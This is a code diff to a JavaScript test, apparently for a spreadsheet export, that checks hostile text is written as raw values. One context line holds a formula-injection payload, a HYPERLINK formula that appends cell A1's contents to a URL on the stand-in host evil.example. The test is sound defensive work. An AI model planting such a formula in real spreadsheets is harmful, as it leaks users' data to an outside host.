@@ -306,6 +306,9 @@ describe('hostile text in every text field', () => {
     for (const f of ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', '-2+3', '=1+1']) {
       expect(sheetText, f).toContain(f);
     }
-    expect(emu.writeLog.every((w) => w.valueInputOption === 'RAW')).toBe(true);
+    // Every write of values (a tab widened for columns past Z is a write without values).
+    const valueWrites = emu.writeLog.filter((w) => w.rows > 0);
+    expect(valueWrites.length).toBeGreaterThan(0);
+    expect(valueWrites.every((w) => w.valueInputOption === 'RAW')).toBe(true);
   });
 });
